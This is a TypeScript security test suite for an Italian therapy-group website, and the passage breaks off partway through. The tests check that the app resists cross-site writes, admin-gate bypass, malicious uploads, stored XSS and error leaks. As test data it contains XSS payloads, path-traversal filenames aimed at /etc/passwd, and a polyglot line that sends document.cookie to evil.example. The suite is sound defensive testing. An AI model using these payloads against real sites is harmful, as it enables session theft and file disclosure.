import { eq } from "drizzle-orm";
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import routes from "../../app/routes";
import { action as blogAction } from "../../app/routes/admin/blog";
import { action as documentsAction } from "../../app/routes/admin/documents";
import { action as therapistsAction } from "../../app/routes/admin/therapists";
import { action as uploadAction } from "../../app/routes/admin/upload";
import { action as submitQuestionnaire } from "../../app/routes/api/submit-questionnaire";
import { auth } from "../../app/server/auth.server";
import type { Database } from "../../app/server/db/client.server";
import { blogPosts, contacts, documents, groups, therapists, user } from "../../app/server/db/schema";
import { resetEnvForTests } from "../../app/server/env.server";
import { ensureBuild, freePort, startApp, stopAllApps, type AppProcess } from "./app-process";
import { testDatabase, testDatabaseUrl } from "./database";
import { onePagePdf, postJson, validAnswers, staffAndClientAccounts, cookieHeader, rowCounts } from "./helpers";
import { answer, form, pageRequest, routeCaller, type AnyHandler } from "./route-calls";

/**
 * Nobody gets in: cookies, brute force, cross-site writes, the admin gate, uploads, stored XSS
 * and error pages, checked against the production build where the check lives in Express.
 */

const SESSION_SECRET = "security-test-session-secret-0123456789abcdef";
const HTTPS_ORIGIN = "https://insieme.example";
const XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'] as const;
/** Seeded private data: an anonymous or non-admin visitor must never see these strings. */
const SECRETS = { contact: "segreto-contatto@example.com", response: "segreto-questionario@example.com" };

let db: Database;
let dataDir: string;
let secureDataDir: string;
let server: AppProcess;
let secureServer: AppProcess;
let adminCookie: string;
let userCookie: string;
/** A signed-in therapist (role therapist, linked to a therapist record): staff-only routes refuse them too. */
let therapistCookie: string;
/** A group's video-call link: never on a public page, cached or not. */
const VIDEO_LINK = "https://meet.example.com/segreto-videochiamata";
let therapistId: string;
let postSlug: string;
let address = 0;
const nextIp = () => `192.0.2.${++address}`;

const cookiesOf = (response: Response) => cookieHeader(response);

async function inProcessCookie(email: string, password: string) {
  const response = await auth(db).api.signInEmail({ body: { email, password }, asResponse: true });
  expect(response.ok).toBe(true);
  return cookiesOf(response);
}

const context = () => ({ db, clientIp: "198.51.100.9", cspNonce: "" });
const call = routeCaller(context);
const adminRequest = pageRequest;

/** A therapist and a published post with a script payload in every text field, saved through the admin actions. */
async function seedStoredXss() {
  const [a, b] = XSS;
  const therapist = answer(
    await call(
      therapistsAction,
      adminRequest("/admin/terapeuti", {
        cookie: adminCookie,
        method: "POST",
        body: form({
          intent: "create",
          name: a,
          role: b,
          specialization: a,
          experience: b,
          description: a,
          registration_number: b,
          biography: `${a}\n\n${b}`,
          image: "",
          qualifications: [a, b],
          approaches: [b, a],
        }),
      }),
    ),
  );
  expect(therapist.body).toMatchObject({ ok: true });
  therapistId = String(therapist.body!.id);
  await db.insert(groups).values({ therapistId, name: a, topic: b, situations: ["sentirsi-soli"], weekday: 3, timeSlot: "Sera", startTime: "20:00", startsOn: "2030-03-01" });

  const post = answer(
    await call(
      blogAction,
      adminRequest("/admin/blog", {
        cookie: adminCookie,
        method: "POST",
        body: form({
          intent: "create",
          title: a,
          subtitle: b,
          excerpt: a,
          read_time: b,
          published_date: "2025-01-15",
          slug: "",
          is_published: "on",
          is_featured: "on",
          meta_title: a,
          meta_description: b,
          introduction: `${a}\n\n${b}`,
          "main_sections[0].type": "h2",
          "main_sections[0].title": a,
          "main_sections[0].content": b,
          "main_sections[1].type": "h3",
          "main_sections[1].title": b,
          "main_sections[1].content": a,
          "internal_links[0].text": a,
          "internal_links[0].url": "/questionario",
          "external_links[0].text": b,
          "external_links[0].url": "https://example.com/",
          conclusion: b,
          cta_text: a,
          cta_link: "/questionario",
          image_url: "",
          image_credits: b,
          "images_data[0].url": "/storage/blog-images/paragraphs/x_w640.webp",
          "images_data[0].alt": a,
          "images_data[0].caption": b,
          "images_data[0].position": "",
        }),
      }),
    ),
  );
  expect(post.body).toMatchObject({ ok: true });
  const [row] = await db
    .select()
    .from(blogPosts)
    .where(eq(blogPosts.id, String(post.body!.id)));
  postSlug = row!.slug!;
}

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "insieme-security-"));
  process.env.DATA_DIR = dataDir;
  // The same secrets as the servers below: a cookie signed here is valid there and back.
  process.env.SESSION_SECRET = SESSION_SECRET;
  process.env.DATA_ENCRYPTION_KEY = randomBytes(32).toString("base64");
  resetEnvForTests();
  db = await testDatabase();
  await staffAndClientAccounts(db);
  adminCookie = await inProcessCookie("staff@example.com", "password-molto-lunga");
  userCookie = await inProcessCookie("utente@example.com", "password-utente-1");
  await auth(db).api.signUpEmail({ body: { email: "terapeuta@example.com", password: "password-terapeuta-1", name: "Terapeuta" } });
  const [therapistUser] = await db.update(user).set({ emailVerified: true, role: "therapist" }).where(eq(user.email, "terapeuta@example.com")).returning();
  const [ownRecord] = await db
    .insert(therapists)
    .values({ name: "Dott.ssa Propria", role: "Psicologa", specialization: "Gruppi", experience: "5 anni", description: "Conduce un gruppo", userId: therapistUser!.id })
    .returning();
  await db.insert(groups).values({
    therapistId: ownRecord!.id,
    name: "Gruppo con link",
    topic: "Tema",
    situations: ["sentirsi-soli"],
    weekday: 2,
    timeSlot: "Sera",
    startTime: "19:00",
    startsOn: "2030-03-05",
    videoUrl: VIDEO_LINK,
  });
  therapistCookie = await inProcessCookie("terapeuta@example.com", "password-terapeuta-1");
  await db.insert(contacts).values({ name: "Segreto", email: SECRETS.contact, subject: "Privato", message: "Dati personali" });
  expect((await postJson(submitQuestionnaire, db, { ...validAnswers, email: SECRETS.response })).status).toBe(201);
  // Before any public page is rendered (and cached by the server).
  await seedStoredXss();

  await ensureBuild();
  const shared = {
    DATABASE_URL: testDatabaseUrl(),
    SESSION_SECRET,
    DATA_ENCRYPTION_KEY: process.env.DATA_ENCRYPTION_KEY,
    WORKERS: "false",
    TRUST_PROXY: "1",
  };
  const [port, securePort] = [await freePort(3540, 3549), await freePort(3550, 3559)];
  secureDataDir = fs.mkdtempSync(path.join(os.tmpdir(), "insieme-security-https-"));
  [server, secureServer] = await Promise.all([
    startApp({ port, dataDir, env: { ...shared, PUBLIC_URL: `http://127.0.0.1:${port}` } }),
    startApp({ port: securePort, dataDir: secureDataDir, env: { ...shared, PUBLIC_URL: HTTPS_ORIGIN } }),
  ]);
}, 120_000);

afterAll(async () => {
  await stopAllApps();
  for (const dir of [dataDir, secureDataDir]) if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

async function signIn(target: AppProcess, origin: string, email: string, password: string, ip = nextIp()) {
  // Behind the TLS proxy of PUBLIC_URL the request arrives with its forwarded host and protocol.
  // (With the port: without one, React Router's adapter takes the port of the Host header.)
  const proxied: Record<string, string> = origin === HTTPS_ORIGIN ? { "X-Forwarded-Host": `${new URL(origin).host}:443`, "X-Forwarded-Proto": "https" } : {};
  return fetch(`${target.url}/admin`, {
    method: "POST",
    redirect: "manual",
    headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: origin, "X-Forwarded-For": ip, ...proxied },
    body: new URLSearchParams({ intent: "sign-in", email, password }),
  });
}

/** One HTTP request on its own connection (or on `agent`'s), whatever the body size. */
function rawRequest(url: string, init: { method?: string; headers?: Record<string, string>; body?: string | Buffer; agent?: http.Agent } = {}) {
  return new Promise<{ status: number; body: string } | { error: string }>((resolve) => {
    const request = http.request(url, { method: init.method ?? "GET", headers: init.headers, agent: init.agent ?? false }, (response) => {
      const chunks: Buffer[] = [];
      response.on("data", (chunk: Buffer) => chunks.push(chunk));
      response.on("end", () => resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString("utf8") }));
      response.on("error", (error) => resolve({ error: String(error) }));
    });
    request.setTimeout(10_000, () => request.destroy(new Error("timeout")));
    request.on("error", (error) => resolve({ error: String(error) }));
    request.end(init.body);
  });
}

const sessionCookie = (response: Response) => response.headers.getSetCookie().find((cookie) => /session_token=/.test(cookie)) ?? "";

describe("session cookies", () => {
  it("are HttpOnly and SameSite=Lax; every sign-in gets a new token; signing out ends the session", async () => {
    const first = await signIn(server, server.url, "staff@example.com", "password-molto-lunga");
    expect(first.status).toBe(302);
    const cookie = sessionCookie(first);
    expect(cookie).toMatch(/^better-auth\.session_token=/);
    expect(cookie).toMatch(/;\s*HttpOnly/i);
    expect(cookie).toMatch(/;\s*SameSite=Lax/i);
    expect(cookie).toMatch(/;\s*Path=\//i);
    expect(cookie).not.toMatch(/;\s*Secure/i);
    const second = await signIn(server, server.url, "staff@example.com", "password-molto-lunga");
    expect(sessionCookie(second).split(";")[0]).not.toBe(cookie.split(";")[0]);

    const token = cookie.split(";")[0]!;
    expect((await fetch(`${server.url}/admin/esporta/contatti`, { headers: { cookie: token } })).status).toBe(200);
    const out = await fetch(`${server.url}/admin`, {
      method: "POST",
      redirect: "manual",
      headers: { "Content-Type": "application/x-www-form-urlencoded", Origin: server.url, cookie: token, "X-Forwarded-For": nextIp() },
      body: new URLSearchParams({ intent: "sign-out" }),
    });
    expect(out.status).toBe(302);
    expect((await fetch(`${server.url}/admin/esporta/contatti`, { headers: { cookie: token } })).status).toBe(401);
  });

  it("are Secure (and __Secure- prefixed) when PUBLIC_URL is https", async () => {
    const response = await signIn(secureServer, HTTPS_ORIGIN, "staff@example.com", "password-molto-lunga");
    expect(response.status, await response.clone().text()).toBe(302);
    const cookie = sessionCookie(response);
    expect(cookie).toMatch(/^__Secure-better-auth\.session_token=/);
    expect(cookie).toMatch(/;\s*Secure/i);
    expect(cookie).toMatch(/;\s*HttpOnly/i);
    expect(cookie).toMatch(/;\s*SameSite=Lax/i);
    expect(response.headers.get("strict-transport-security")).toMatch(/max-age=\d+/);
  });

  it("are Secure on an HTTPS request through the trusted proxy even when PUBLIC_URL is http", async () => {
    const response = await fetch(`${server.url}/admin`, {
      method: "POST",
      redirect: "manual",
      // A browser on the HTTPS page sends its https origin; the proxy says how the request came in.
      headers: {
        "Content-Type": "application/x-www-form-urlencoded",
        Origin: server.url.replace("http:", "https:"),
        "X-Forwarded-For": nextIp(),
        "X-Forwarded-Proto": "https",
      },
      body: new URLSearchParams({ intent: "sign-in", email: "staff@example.com", password: "password-molto-lunga" }),
    });
    expect(response.status, await response.clone().text()).toBe(302);
    const cookie = sessionCookie(response);
    expect(cookie).toMatch(/^__Secure-better-auth\.session_token=/);
    expect(cookie).toMatch(/;\s*Secure/i);
  });

  it("answers 429 to repeated failed sign-ins from one address, even with the right password then; other addresses are not blocked", async () => {
    // A different account each time: one account's own failures would lock it out (accounts.test.ts).
    const ip = nextIp();
    const statuses: number[] = [];
    for (let attempt = 0; attempt < 7; attempt++) statuses.push((await signIn(server, server.url, `bersaglio-${attempt}@example.com`, `sbagliata-${attempt}`, ip)).status);
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses.slice(5)).toEqual([429, 429]);
    expect((await signIn(server, server.url, "staff@example.com", "password-molto-lunga", ip)).status).toBe(429);
    expect((await signIn(server, server.url, "staff@example.com", "password-molto-lunga")).status).toBe(302);
  });
});

interface RouteEntry {
  path?: string;
  file: string;
  index?: boolean;
  children?: RouteEntry[];
}

const allRoutes = routes as RouteEntry[];

/** A concrete URL for a route path: each dynamic segment filled with a plausible value. */
function concrete(routePath: string) {
  return `/${routePath}`
    .replace(":callPath", "call-mario")
    .replace(":intent", "conferma")
    .replace(":token", "token-di-prova")
    .replace(":bucket", "therapist-photos")
    .replace(":kind", "therapist-photo")
    .replace(":dataset", "contatti")
    .replace(/:\w+/g, "x")
    .replace("/*", "/sign-in/email");
}

async function exportsOf(file: string) {
  return (await import(/* @vite-ignore */ path.resolve("app", file))) as { default?: unknown; loader?: AnyHandler; action?: AnyHandler };
}

const tableCounts = () =>
  rowCounts(db, ["contacts", "internal_questionnaire_responses", "group_bookings", "email_outbox", "newsletter_subscribers", "registrations", "group_waitlist", "session", "user"]);

describe("cross-site writes", () => {
  it("refuses with 403 a cross-origin POST to every public endpoint and every page with an action, and writes nothing", async () => {
    const targets: string[] = [];
    for (const entry of allRoutes) {
      if (entry.path === "admin") continue;
      const mod = await exportsOf(entry.file);
      if (entry.path?.startsWith("api/") || mod.action) targets.push(concrete(entry.path ?? ""));
    }
    targets.push("/admin", "/admin/terapeuti", "/admin/upload/therapist-photo");
    expect(targets).toEqual(expect.arrayContaining(["/api/send-contact-email", "/api/submit-questionnaire", "/api/auth/sign-in/email", "/call-mario"]));
    const before = await tableCounts();
    const attacks: Record<string, string>[] = [
      { Origin: "https://evil.example" },
      { Origin: "null" },
      { Origin: `${server.url}.evil.example` },
      { Origin: "http://127.0.0.1:1" },
      { "Sec-Fetch-Site": "cross-site" },
    ];
    for (const target of targets) {
      for (const attack of attacks) {
        for (const [type, body] of [
          ["application/json", JSON.stringify({ name: "Evil", email: "evil@example.com", subject: "x", message: "y", password: "x", step: 2 })],
          ["application/x-www-form-urlencoded", "intent=sign-in&email=staff%40example.com&password=password-molto-lunga&name=Evil&email2=evil%40example.com"],
        ] as const) {
          const response = await fetch(`${server.url}${target}`, {
            method: "POST",
            redirect: "manual",
            headers: { "Content-Type": type, "X-Forwarded-For": nextIp(), cookie: adminCookie, ...attack },
            body,
          });
          expect(response.status, `${target} ${JSON.stringify(attack)} ${type}`).toBe(403);
          expect(response.headers.getSetCookie()).toEqual([]);
          expect(await response.json()).toEqual({ error: "Richiesta rifiutata: proviene da un altro sito." });
        }
      }
    }
    expect(await tableCounts()).toEqual(before);
  });
});

describe("the admin gate", () => {
  const admin = allRoutes.find((entry) => entry.path === "admin");
  const walk = (entries: RouteEntry[]): RouteEntry[] => entries.flatMap((entry) => [entry, ...walk(entry.children ?? [])]);
  const modules = walk(admin?.children ?? []);

  it("finds every admin module in the route table", () => {
    expect(modules.length).toBeGreaterThanOrEqual(10);
  });

  for (const entry of modules) {
    it(`${entry.file}: loaders and actions answer 401 / 403`, async () => {
      const mod = await exportsOf(entry.file);
      const params: Record<string, string> = { kind: "therapist-photo", dataset: "contatti" };
      const pathname = concrete(`admin/${entry.path ?? ""}`);
      for (const [cookie, status] of [
        [undefined, 401],
        [userCookie, 403],
        [therapistCookie, 403],
      ] as const) {
        if (mod.loader) {
          await expect(call(mod.loader, adminRequest(pathname, { cookie }), params)).rejects.toMatchObject({ status });
        }
        if (mod.action) {
          for (const intent of ["create", "update", "delete", "upload", "confirm", "set-status", "export", "erase", "retry", ""]) {
            const body = form({ intent, id: "00000000-0000-4000-8000-000000000000", type: "privacy-policy", file: new Blob(["%PDF-1.4\n%%EOF\n"]) });
            await expect(call(mod.action, adminRequest(pathname, { cookie, method: "POST", body }), params), `${intent}`).rejects.toMatchObject({ status });
          }
        }
      }
    });
  }

  it("serves no admin data over HTTP to anonymous or non-admin visitors, HTML or .data", async () => {
    const pages = modules.map((entry) => concrete(`admin/${entry.path ?? ""}`).replace(/\/$/, ""));
    const userSession = cookiesOf(await signIn(server, server.url, "utente@example.com", "password-utente-1"));
    expect(userSession).toMatch(/session_token=/);
    for (const page of pages) {
      for (const suffix of ["", ".data"]) {
        for (const cookie of [undefined, userSession]) {
          const response = await fetch(`${server.url}${page}${suffix}`, { headers: cookie ? { cookie } : {}, redirect: "manual" });
          const text = await response.text();
          const label = `${page}${suffix} ${cookie ? "non-admin" : "anonymous"} → ${response.status}`;
          expect(text, label).not.toContain(SECRETS.contact);
          expect(text, label).not.toContain(SECRETS.response);
          if (!suffix && response.headers.get("content-type")?.includes("text/html")) {
            expect(text, label).toMatch(cookie ? /Access Denied/ : /Admin Login/);
          }
        }
      }
    }
    // The seeded data is really there: the same pages show it to an admin.
    const adminSession = cookiesOf(await signIn(server, server.url, "staff@example.com", "password-molto-lunga"));
    expect(await (await fetch(`${server.url}/admin`, { headers: { cookie: adminSession } })).text()).toContain(SECRETS.contact);
    expect(await (await fetch(`${server.url}/admin/questionari`, { headers: { cookie: adminSession } })).text()).toContain(SECRETS.response);
  });
});

describe("the therapist area", () => {
  const area = allRoutes.find((entry) => entry.path === "terapeuta-area");
  const modules = [area!, ...(area?.children ?? [])];

  for (const entry of modules) {
    it(`${entry.file}: anonymous visitors go to sign in, users and staff get 403`, async () => {
      const mod = await exportsOf(entry.file);
      const params = { groupId: "00000000-0000-4000-8000-000000000000", sessionId: "00000000-0000-4000-8000-000000000000", bookingId: "00000000-0000-4000-8000-000000000000" };
      const pathname = concrete(`terapeuta-area/${entry.path ?? ""}`);
      if (mod.loader) {
        await expect(call(mod.loader, adminRequest(pathname), params)).rejects.toMatchObject({ status: 302 });
        for (const cookie of [userCookie, adminCookie]) await expect(call(mod.loader, adminRequest(pathname, { cookie }), params)).rejects.toMatchObject({ status: 403 });
      }
      if (mod.action) {
        for (const [cookie, status] of [
          [undefined, 401],
          [userCookie, 403],
          [adminCookie, 403],
        ] as const) {
          const body = form({ intent: "attendance", [`mark:${params.bookingId}`]: "present" });
          await expect(call(mod.action, adminRequest(pathname, { cookie, method: "POST", body }), params)).rejects.toMatchObject({ status });
        }
      }
    });
  }

  it("shows the video link to the group's therapist, never on a public page, cached or not", async () => {
    const therapistSession = await fetch(`${server.url}/terapeuta-area`, { headers: { cookie: therapistCookie }, redirect: "manual" });
    expect(therapistSession.status).toBe(200);
    expect(therapistSession.headers.get("cache-control")).toMatch(/no-store/);
    expect(await therapistSession.text()).toContain(VIDEO_LINK);
    const [own] = await db.select({ id: therapists.id }).from(therapists).where(eq(therapists.name, "Dott.ssa Propria"));
    for (const page of ["/", "/terapeuti", `/terapeuti/${own!.id}`, "/gruppi-matching", "/api/groups", "/sitemap.xml"]) {
      for (const attempt of [1, 2]) {
        const response = await fetch(`${server.url}${page}`, { redirect: "manual" });
        expect(await response.text(), `${page} #${attempt}`).not.toContain("segreto-videochiamata");
      }
    }
  });
});

/** Every file under the uploads folder, relative to DATA_DIR. */
function uploadedFiles() {
  const rootDir = path.join(dataDir, "uploads");
  const files: string[] = [];
  const visit = (dir: string) => {
    if (!fs.existsSync(dir)) return;
    for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) visit(full);
      else files.push(path.relative(dataDir, full));
    }
  };
  visit(rootDir);
  return files.sort();
}

async function uploadImage(kind: string, file: File) {
  const response = (await call(uploadAction, adminRequest(`/admin/upload/${kind}`, { cookie: adminCookie, method: "POST", body: form({ file }) }), { kind })) as Response;
  return { status: response.status, body: (await response.json()) as { url?: string; error?: string } };
}

async function uploadDocument(type: string, file: File) {
  return answer(await call(documentsAction, adminRequest("/admin/documenti", { cookie: adminCookie, method: "POST", body: form({ intent: "upload", type, file }) })));
}

describe("uploads", () => {
  const html = "<!doctype html><html><body><script>alert(document.cookie)</script></body></html>";
  const realJpeg = () =>
    sharp({ create: { width: 40, height: 30, channels: 3, background: { r: 200, g: 80, b: 40 } } })
      .jpeg()
      .toBuffer();

  it("refuses polyglots: JPEG magic bytes followed by HTML, and an HTML/JS file with a PDF header inside; nothing is written", async () => {
    const before = uploadedFiles();
    const jpegThenHtml = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from("JFIF\0"), Buffer.from(html)]);
    for (const kind of ["therapist-photo", "blog-cover", "blog-paragraph"]) {
      const result = await uploadImage(kind, new File([new Uint8Array(jpegThenHtml)], "foto.jpg", { type: "image/jpeg" }));
      expect(result.status, kind).toBe(415);
    }
    const truncated = (await realJpeg()).subarray(0, 200);
    const halfJpeg = await uploadImage("therapist-photo", new File([new Uint8Array(Buffer.concat([truncated, Buffer.from(html)]))], "foto.jpg", { type: "image/jpeg" }));
    expect(halfJpeg.status).toBe(415);

    const htmlWithPdfHeader = `<html><!--\n%PDF-1.4\n--><script>alert(1)</script></html>`;
    const jsWithPdfHeader = `/*%PDF-1.4*/ fetch("https://evil.example/?c=" + document.cookie);`;
    for (const content of [htmlWithPdfHeader, jsWithPdfHeader]) {
      const result = await uploadDocument("privacy-policy", new File([content], "privacy-policy.pdf", { type: "application/pdf" }));
      expect(result.status).toBe(415);
    }
    expect(uploadedFiles()).toEqual(before);
    expect(await db.select().from(documents)).toEqual([]);
  });

  it("re-encodes a valid JPEG that carries HTML after its end: nothing of the HTML is stored", async () => {
    const polyglot = Buffer.concat([await realJpeg(), Buffer.from(html)]);
    const result = await uploadImage("blog-cover", new File([new Uint8Array(polyglot)], "copertina.jpg", { type: "image/jpeg" }));
    if (result.status === 201) {
      const stored = fs.readdirSync(path.join(dataDir, "uploads/blog-images/covers"));
      expect(stored.length).toBeGreaterThan(0);
      for (const name of stored) {
        const bytes = fs.readFileSync(path.join(dataDir, "uploads/blog-images/covers", name));
        expect(name).toMatch(/\.webp$/);
        expect(bytes.includes(Buffer.from("<script"))).toBe(false);
      }
    } else {
      expect(result.status).toBe(415);
    }
  });

  it("refuses files over 5 MB (413), images and PDFs alike, and writes nothing", async () => {
    const before = uploadedFiles();
    const big = Buffer.alloc(5 * 1024 * 1024 + 1, 0x20);
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(big);
    expect((await uploadImage("therapist-photo", new File([new Uint8Array(big)], "grande.png", { type: "image/png" }))).status).toBe(413);
    const bigPdf = Buffer.alloc(5 * 1024 * 1024 + 1, 0x20);
    Buffer.from("%PDF-1.4\n").copy(bigPdf);
    expect((await uploadDocument("termini-condizioni", new File([new Uint8Array(bigPdf)], "termini.pdf", { type: "application/pdf" }))).status).toBe(413);
    const huge = Buffer.alloc(12 * 1024 * 1024, 0x20);
    expect((await uploadImage("blog-paragraph", new File([new Uint8Array(huge)], "enorme.png", { type: "image/png" }))).status).toBe(413);
    expect(uploadedFiles()).toEqual(before);
    expect(await db.select().from(documents)).toEqual([]);
  });

  it("ignores path-traversal file names and refuses traversal in the upload kind and document type; nothing lands outside its folder", async () => {
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: { r: 0, g: 0, b: 0 } } })
      .png()
      .toBuffer();
    const evil = path.join(os.tmpdir(), `insieme-evil-${process.pid}`);
    const names = [`../../../../../../..${evil}.png`, "..\\..\\..\\evil.png", "%2e%2e%2f%2e%2e%2fevil.png", "/etc/passwd", "evil\0.png"];
    for (const name of names) {
      const before = uploadedFiles();
      const result = await uploadImage("therapist-photo", new File([new Uint8Array(png)], name, { type: "image/png" }));
      expect(result.status, name).toBe(201);
      expect(result.body.url).toMatch(/^\/storage\/therapist-photos\/therapists\/\d+-[0-9a-f]+_w\d+\.webp$/);
      const added = uploadedFiles().filter((file) => !before.includes(file));
      expect(added.length).toBeGreaterThan(0);
      expect(
        added.every((file) => /^uploads\/therapist-photos\/therapists\/\d+-[0-9a-f]+_w\d+\.webp$/.test(file)),
        added.join(", "),
      ).toBe(true);
    }
    expect(fs.existsSync(`${evil}.png`)).toBe(false);

    const pdf = new File([new Uint8Array(await onePagePdf())], "../../../../etc/cron.d/evil.pdf", { type: "application/pdf" });
    const stored = await uploadDocument("accordo-servizio", pdf);
    expect(stored.body).toMatchObject({ ok: true });
    expect(uploadedFiles().filter((file) => file.startsWith("uploads/documents/"))).toEqual(["uploads/documents/accordo-servizio.pdf"]);

    const before = uploadedFiles();
    for (const kind of ["../../../etc", "..%2f..%2fetc", "therapist-photo/../../x"]) {
      expect((await uploadImage(kind, new File([new Uint8Array(png)], "x.png", { type: "image/png" }))).status, kind).toBe(404);
    }
    for (const type of ["../../etc/passwd", "privacy-policy/../../x", "privacy-policy.pdf"]) {
      expect((await uploadDocument(type, new File(["%PDF-1.4\n%%EOF\n"], "x.pdf"))).status, type).toBe(400);
    }
    expect(uploadedFiles()).toEqual(before);
  });

  it("never serves private documents or files outside a bucket over HTTP", async () => {
    // A private file beside the uploads folder, two levels above any bucket.
    const secret = `contenuto-privato-${randomBytes(6).toString("hex")}`;
    fs.writeFileSync(path.join(dataDir, "privato.txt"), secret);
    const paths = [
      "/storage/documents/accordo-servizio.pdf",
      "/storage/therapist-photos/..%2f..%2fprivato.txt",
      "/storage/therapist-photos/%2e%2e/%2e%2e/privato.txt",
      "/storage/therapist-photos/..%252f..%252fprivato.txt",
      "/storage/blog-images/....//....//privato.txt",
      "/storage/..%2fdocuments/accordo-servizio.pdf",
      "/storage/therapist-photos/%2e%2e%5c%2e%2e%5cprivato.txt",
      "/storage/therapist-photos/..%5c..%5cprivato.txt",
    ];
    for (const pathname of paths) {
      const response = await fetch(`${server.url}${pathname}`);
      const body = await response.text();
      expect(response.status, pathname).toBe(404);
      expect(body, pathname).not.toContain("%PDF");
      expect(body, pathname).not.toContain(secret);
    }
  });
});

/** Tags outside <script>/<style> content, with their attributes, read the way a browser tokenizes them. */
function tagsOf(html: string) {
  const tags: { name: string; attributes: [string, string][] }[] = [];
  const scripts: string[] = [];
  const tag = /<([a-zA-Z][\w:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/y;
  const attribute = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;
  let index = 0;
  while ((index = html.indexOf("<", index)) !== -1) {
    if (html.startsWith("<!--", index)) {
      index = html.indexOf("-->", index) + 3 || html.length;
      continue;
    }
    tag.lastIndex = index;
    const match = tag.exec(html);
    if (!match) {
      index += 1;
      continue;
    }
    const name = match[1]!.toLowerCase();
    tags.push({ name, attributes: [...match[2]!.matchAll(attribute)].map((found) => [found[1]!.toLowerCase(), found[2] ?? found[3] ?? found[4] ?? ""]) });
    index = tag.lastIndex;
    if (name === "script" || name === "style") {
      const end = html.toLowerCase().indexOf(`</${name}`, index);
      if (name === "script") scripts.push(html.slice(index, end === -1 ? html.length : end));
      index = end === -1 ? html.length : end;
    }
  }
  return { tags, scripts };
}

describe("stored XSS", () => {
  it("shows the payloads saved in every therapist and blog field only escaped on the public pages", async () => {
    const pages = ["/terapeuti", `/terapeuti/${therapistId}`, "/blog", `/blog/${postSlug}`, "/", "/gruppi-matching"];
    const escaped = [/&lt;script&gt;alert\(1\)&lt;\/script&gt;/, /\\u003cscript\\u003ealert\(1\)\\u003c\/script\\u003e/, /&quot;&gt;&lt;img src=x onerror=alert\(1\)&gt;/];
    for (const page of pages) {
      const response = await fetch(`${server.url}${page}`);
      expect(response.status, page).toBe(200);
      const html = await response.text();
      expect(html.toLowerCase(), page).not.toContain("<script>alert(1)</script>");
      expect(html, page).not.toContain("<img src=x onerror=alert(1)>");
      const { tags, scripts } = tagsOf(html);
      const handlers = tags.filter((found) => found.attributes.some(([name]) => name.startsWith("on")));
      expect(handlers, `${page}: a tag with an event handler attribute`).toEqual([]);
      expect(
        tags.filter((found) => found.name === "img" && found.attributes.some(([name, value]) => name === "src" && value === "x")),
        page,
      ).toEqual([]);
      expect(
        scripts.filter((content) => content.includes("alert(1)") && !/\\u003c|\\"|&lt;|\\\\u003c/.test(content)),
        `${page}: a script running the payload`,
      ).toEqual([]);
      if (page !== "/" && page !== "/gruppi-matching")
        expect(
          escaped.some((pattern) => pattern.test(html)),
          `${page}: the payload is not shown at all`,
        ).toBe(true);
    }
    const rss = await (await fetch(`${server.url}/blog/rss.xml`)).text();
    expect(rss).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(rss).not.toContain("<script>");
  });
});

describe("errors never leak internals", () => {
  const leak = /^\s*at .+:\d+:\d+\)?\s*$|\/work\/|node_modules|file:\/\/|DrizzleQueryError|Failed query|\bstack\b/m;

  it("has no stack trace, file path or query in any error response", async () => {
    const requests: { path: string; init?: RequestInit }[] = [];
    const post = (body: string, type = "application/json"): RequestInit => ({ method: "POST", headers: { "Content-Type": type, Origin: server.url }, body });
    for (const endpoint of ["send-contact-email", "submit-questionnaire", "newsletter-signup", "update-group-selection", "call-slots", "waitlist", "funnel-step"]) {
      requests.push({ path: `/api/${endpoint}`, init: post("{not json") });
      requests.push({ path: `/api/${endpoint}`, init: post(JSON.stringify({ pad: "x".repeat(2 * 1024 * 1024) })) });
      // Just under the 64 KB cap, so it reaches JSON.parse and the schema.
      requests.push({ path: `/api/${endpoint}`, init: post(`${"[".repeat(30_000)}${"]".repeat(30_000)}`) });
      requests.push({ path: `/api/${endpoint}`, init: { method: "PUT", headers: { Origin: server.url }, body: "{}" } });
    }
    requests.push(
      { path: "/api/auth/sign-in/email", init: post("{not json") },
      { path: "/api/auth/does-not-exist", init: post("{}") },
      { path: "/admin", init: post(`intent=sign-in&email=${"a".repeat(300_000)}`, "application/x-www-form-urlencoded") },
      { path: "/admin/terapeuti", init: post("intent=create", "application/x-www-form-urlencoded") },
      { path: "/admin/upload/therapist-photo", init: post("garbage", "multipart/form-data; boundary=nothing") },
      { path: "/call-mario", init: post("%%%&&&==", "application/x-www-form-urlencoded") },
      { path: "/about", init: post("{}") },
      { path: "/", init: { method: "DELETE", headers: { Origin: server.url } } },
      { path: "/does-not-exist" },
      { path: "/api/does-not-exist" },
      { path: "/admin/does-not-exist" },
      { path: "/blog/does-not-exist" },
      { path: "/terapeuti/not-a-uuid" },
      { path: "/terapeuti/00000000-0000-4000-8000-000000000000" },
      { path: "/problemi/nessuno" },
      { path: "/newsletter/conferma/non-esiste" },
      { path: "/newsletter/boh/non-esiste" },
      { path: "/storage/nessuno/x.png" },
      { path: "/%E0%A4%A" },
      { path: "/blog/%ZZ" },
      { path: "/does-not-exist.data" },
      { path: "/terapeuti.data?_routes=routes%2Fnessuna" },
      { path: "/admin/esporta/nessuno" },
      { path: `/${"x".repeat(6000)}` },
      // Routes that throw inside (a NUL byte reaches PostgreSQL).
      { path: "/api/groups?email=%00" },
      { path: "/gruppi-matching?email=%00" },
      { path: "/call-mario?email=%00&name=%00" },
    );
    for (const request of requests) {
